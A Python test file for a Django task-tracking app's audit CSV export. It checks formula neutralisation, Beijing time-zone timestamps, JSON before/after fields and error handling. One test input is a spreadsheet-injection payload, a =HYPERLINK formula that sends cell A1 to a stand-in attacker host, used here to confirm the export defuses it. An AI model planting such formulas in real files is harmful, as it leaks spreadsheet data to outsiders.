"""The audit CSV (finding 11): formulas neutralised, times in the site's time zone with the offset,
before and after as JSON, and a refused query an error page rather than a file cut short."""

import csv
import datetime
import io
import json

import pytest
from django.db import DatabaseError
from django.urls import reverse

from taskbook.audit.models import AuditEvent
from taskbook.audit.views import csv_row
from taskbook.orgs.actors import SYSTEM
from taskbook.taskbooks.actions import update_measure

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'


def _rows(client, **query) -> list[dict[str, str]]:
    response = client.get(reverse("audit:csv"), query)
    assert response.status_code == 200 and response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_a_title_that_is_a_formula_reaches_the_csv_as_text(client, people, workplan):
    measure = workplan.measures[0]
    update_measure(SYSTEM, measure, version=measure.version, title=FORMULA)
    client.force_login(people.alice)
    row = next(r for r in _rows(client, action="measure.update") if r["object id"] == str(measure.pk))
    assert row["object"] == "'" + FORMULA
    after = json.loads(row["after"].removeprefix("'"))
    assert after["title"] == FORMULA
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_times_are_in_the_sites_time_zone_with_the_offset(settings):
    assert settings.TIME_ZONE == "Asia/Shanghai"
    # Work done at 07:30 in Beijing is 23:30 UTC the day before: the CSV keeps it on its own day.
    event = AuditEvent(at=datetime.datetime(2024, 3, 4, 23, 30, tzinfo=datetime.UTC), action="measure.update")
    assert csv_row(event)[0] == "2024-03-05T07:30:00+08:00"


def test_before_and_after_are_json_with_sorted_keys_and_readable_chinese(client, people, workplan):
    measure = workplan.measures[0]
    update_measure(SYSTEM, measure, version=measure.version, title="优化营商环境")
    client.force_login(people.alice)
    row = next(r for r in _rows(client, action="measure.update") if r["object id"] == str(measure.pk))
    after = json.loads(row["after"])
    assert after["title"] == "优化营商环境" and "优化营商环境" in row["after"]  # not \\u escapes
    assert list(after) == sorted(after)
    assert row["before"] and json.loads(row["before"])["title"] != "优化营商环境"


def test_a_refused_query_is_an_error_before_the_file_starts(client, people, workplan, monkeypatch):
    client.force_login(people.alice)

    def refuse(*args, **kwargs):
        raise DatabaseError("refused")

    monkeypatch.setattr("django.db.models.query.ModelIterable.__iter__", refuse)
    client.raise_request_exception = True
    with pytest.raises(DatabaseError):  # raised by the view, not in the middle of the stream
        client.get(reverse("audit:csv"))
